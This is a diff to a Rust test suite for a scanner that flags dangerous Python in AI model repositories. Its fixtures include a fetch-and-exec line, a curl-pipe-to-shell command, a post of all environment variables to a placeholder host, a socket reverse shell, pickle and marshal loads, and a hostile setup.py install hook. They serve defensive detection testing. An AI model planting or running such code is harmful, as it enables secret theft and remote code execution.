@@ -23,7 +23,7 @@ fn model(files: &[(&str, &[u8])]) -> Model {
 
 /// The codes of this family's findings with their severities, sorted, each once.
 fn found(model: &Model) -> Vec<(String, Severity)> {
-    let ours = |code: &str| super::RULES.iter().any(|rule| rule.code == code);
+    let ours = |code: &str| super::RULES.iter().chain(super::PYTHON_RULES).any(|rule| rule.code == code);
     let judgement = judge(model, &Policy::default(), Level::Audit, ours);
     let mut found: Vec<_> =
         judgement.findings.iter().map(|finding| (finding.code.to_string(), finding.severity)).collect();
@@ -251,4 +251,172 @@ fn broken_templates_are_not_understood() {
     for template in ["{{ x", "{% if %}", "{{ 'x }}", "{{ x | }}", "{% set x %", "{{ x $ y }}"] {
         assert!(!model(&[("chat_template.jinja", template.as_bytes())]).issues.is_empty(), "{template}");
     }
+}
+
+const MODELING: &str = r#"
+import json, math, os
+import logging
+from typing import Optional
+import torch
+from torch import nn
+from transformers import PreTrainedModel
+from .configuration_x import XConfig
+try:
+    from flash_attn import flash_attn_func
+except ImportError:
+    flash_attn_func = None
+
+logger = logging.getLogger(__name__)
+_HERE = os.path.dirname(os.path.abspath(__file__))
+ACT = {"gelu": nn.GELU, "silu": nn.SiLU}
+IMAGE_TOKEN = "<image>"
+
+class XAttention(nn.Module):
+    def __init__(self, config: XConfig, layer: Optional[int] = None):
+        super().__init__()
+        self.head = config.hidden_size // config.num_attention_heads
+        self.act = ACT[config.hidden_act]()
+        with open(os.path.join(_HERE, "vocab.json"), encoding="utf-8") as handle:
+            self.vocab = json.load(handle)
+        self.compiled = torch.compile(self.forward)
+
+    @torch.no_grad()
+    def forward(self, x, mask=None):
+        self.eval()
+        return x @ x.transpose(-1, -2) / math.sqrt(self.head)
+
+class XModel(PreTrainedModel):
+    config_class = XConfig
+    def __init__(self, config):
+        super().__init__(config)
+        self.layers = nn.ModuleList([XAttention(config, i) for i in range(config.num_hidden_layers)])
+        self.post_init()
+
+    def load_image(self, url):
+        import requests
+        from PIL import Image
+        return Image.open(requests.get(url, stream=True).raw)
+
+XModel.register_for_auto_class("AutoModel")
+"#;
+
+const CONVERT: &str = r#"
+import argparse, subprocess, os, shutil, pickle
+import torch
+
+def convert(args):
+    state = torch.load(args.input, map_location="cpu")
+    subprocess.run(["git", "lfs", "pull"], check=True)
+    with open(args.output, "wb") as handle:
+        pickle.dump(state, handle)
+    os.makedirs("out", exist_ok=True)
+    shutil.rmtree("tmp", ignore_errors=True)
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--input")
+    convert(parser.parse_args())
+"#;
+
+const HANDLER: &str = r#"
+from typing import Any, Dict, List
+import base64, io, os
+from PIL import Image
+import torch
+from transformers import pipeline
+
+class EndpointHandler:
+    def __init__(self, path=""):
+        self.device = "cuda" if torch.cuda.is_available() else "cpu"
+        self.token = os.environ.get("HF_TOKEN")
+        self.pipe = pipeline("image-classification", model=path, device=self.device)
+
+    def __call__(self, data: Dict[str, Any]) -> List[Dict[str, Any]]:
+        image = Image.open(io.BytesIO(base64.b64decode(data["inputs"])))
+        return self.pipe(image)
+"#;
+
+#[test]
+fn ordinary_python_is_quiet() {
+    check(&[("modeling_x.py", MODELING)], &[]);
+    check(&[("convert_checkpoint.py", CONVERT)], &[]);
+    check(&[("handler.py", HANDLER)], &[]);
+    check(
+        &[(
+            "setup.py",
+            "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages())\n",
+        )],
+        &[],
+    );
+    check(
+        &[(
+            "tests/test_x.py",
+            "import subprocess\ndef test_cli():\n    subprocess.check_call(['x', '--help'])\n",
+        )],
+        &[],
+    );
+}
+
+#[test]
+fn python_that_acts_on_import() {
+    let auto = r#"{"auto_map": {"AutoModel": "code.X"}}"#;
+    check(
+        &[("config.json", auto), ("code.py", "import os\nos.system('echo pwned')\nclass X: pass\n")],
+        &[("CFG001", Medium), ("PYC001", Critical)],
+    );
+    check(
+        &[
+            ("config.json", auto),
+            ("code.py", "from .helper import y\n"),
+            ("helper.py", "import os\nos.system('x')\n"),
+        ],
+        &[("CFG001", Medium), ("PYC001", Critical)],
+    );
+    check(
+        &[("setup.py", "import subprocess\nsubprocess.Popen('echo pwned', shell=True)\n")],
+        &[("PYC001", Critical)],
+    );
+    check(&[("demo.py", "import os\nos.system('echo pwned')\n")], &[("PYC001", High)]);
+    check(
+        &[("modeling_x.py", "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/')\n")],
+        &[("PYC001", Critical)],
+    );
+    check(
+        &[("modeling_x.py", "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n")],
+        &[("PYC001", Medium), ("PYC001", Critical)],
+    );
+    check(&[("modeling_x.py", "exec(b''.join(secret()))\n")], &[("PYC001", High)]);
+    check(
+        &[("modeling_x.py", "import requests\nexec(requests.get('http://x').text)\n")],
+        &[("PYC001", Critical)],
+    );
+    check(&[("modeling_x.py", "import pickle\npickle.loads(b'x')\n")], &[("PYC001", Critical)]);
+    check(&[("modeling_x.py", "import marshal\nexec(marshal.loads(b'x'))\n")], &[("PYC001", Critical)]);
+    check(&[("modeling_x.py", "open('/tmp/pwned', 'w').write('x')\n")], &[("PYC001", High)]);
+    check(
+        &[("modeling_x.py", "from pathlib import Path\nPath('/tmp/pwned').write_text('x')\n")],
+        &[("PYC001", High)],
+    );
+    check(
+        &[("setup.py", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n")],
+        &[("PYC001", Low)],
+    );
+    check(&[("setup.py", "exec(open('x/version.py').read())\n")], &[("PYC001", Medium)]);
+}
+
+#[test]
+fn python_that_acts_in_use() {
+    let text =
+        "import subprocess\nclass X:\n    def __init__(self, c):\n        subprocess.run(c, shell=True)\n";
+    check(&[("modeling_x.py", text)], &[("PYC002", High)]);
+    let command = "import os\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('echo pwned')\n";
+    check(&[("setup.py", command)], &[("PYC002", High)]);
+    let hidden = "import base64\nclass X:\n    def forward(self, x):\n        exec(base64.b64decode(x))\n";
+    check(&[("modeling_x.py", hidden)], &[("PYC003", High)]);
+    let secrets = "import os, requests\nclass X:\n    def __init__(self):\n        requests.post('http://x', json=dict(os.environ))\n";
+    check(&[("modeling_x.py", secrets)], &[("PYC002", Low), ("PYC004", High)]);
+    let command = "import os\ndef f():\n    os.system('curl http://x/y | sh')\n";
+    check(&[("tool.py", command)], &[("PYC005", High)]);
+    let shell = "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('h', 1))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n";
+    check(&[("tool.py", shell)], &[("PYC005", High)]);
 }
